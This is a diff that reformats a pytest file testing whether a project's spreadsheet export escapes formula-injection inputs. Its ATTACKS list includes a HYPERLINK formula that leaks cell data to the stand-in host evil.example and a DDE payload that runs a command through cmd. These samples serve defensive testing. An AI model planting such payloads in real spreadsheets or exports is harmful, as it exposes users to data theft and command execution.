@@ -16,22 +16,39 @@ import pytest
 from exonerations import exports
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
-           "\tTAB", "\r=1+1", "=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "\tTAB",
+    "\r=1+1",
+    "=1+1",
+]
 
 
 def hostile_frame() -> pd.DataFrame:
-    return pd.DataFrame({
-        "text": [*ATTACKS, "plain text"],
-        "number": [-5, 3, -2, 0, 7, -1, 12, 4],
-        "float": [-1.5, 2.25, 0.0, -0.125, 1.0, 3.5, -7.75, 8.0],
-        "list": [["=EVIL()", "ok"], ["ok"], ["@x", "b"], [], ["+1"], ["-3"], ["a", "=b"], ["x"]],
-        "array": [np.array(["=A1", "b"]), np.array(["x"]), np.array([]), np.array(["-1+1"]),
-                  np.array(["a"]), np.array(["b"]), np.array(["c"]), np.array(["d"])],
-        "=header": ["a"] * 8,
-        "date": [dt.date(2020, 1, 1)] * 8,
-        "flag": [True, False, True, False, None, True, False, True],
-    })
+    return pd.DataFrame(
+        {
+            "text": [*ATTACKS, "plain text"],
+            "number": [-5, 3, -2, 0, 7, -1, 12, 4],
+            "float": [-1.5, 2.25, 0.0, -0.125, 1.0, 3.5, -7.75, 8.0],
+            "list": [["=EVIL()", "ok"], ["ok"], ["@x", "b"], [], ["+1"], ["-3"], ["a", "=b"], ["x"]],
+            "array": [
+                np.array(["=A1", "b"]),
+                np.array(["x"]),
+                np.array([]),
+                np.array(["-1+1"]),
+                np.array(["a"]),
+                np.array(["b"]),
+                np.array(["c"]),
+                np.array(["d"]),
+            ],
+            "=header": ["a"] * 8,
+            "date": [dt.date(2020, 1, 1)] * 8,
+            "flag": [True, False, True, False, None, True, False, True],
+        }
+    )
 
 
 def is_unescaped_formula(cell) -> bool:
@@ -95,7 +112,7 @@ def test_xlsx_neutralises_formulas_and_keeps_numbers():
     for row in rows:
         for cell in row:
             assert not is_unescaped_formula(cell), cell
-    assert [r[0] for r in body][:len(ATTACKS)] == ["'" + a for a in ATTACKS]
+    assert [r[0] for r in body][: len(ATTACKS)] == ["'" + a for a in ATTACKS]
     assert [r[1] for r in body] == [-5, 3, -2, 0, 7, -1, 12, 4]
     assert all(isinstance(r[1], int) for r in body)
     assert [r[2] for r in body] == [-1.5, 2.25, 0.0, -0.125, 1.0, 3.5, -7.75, 8.0]
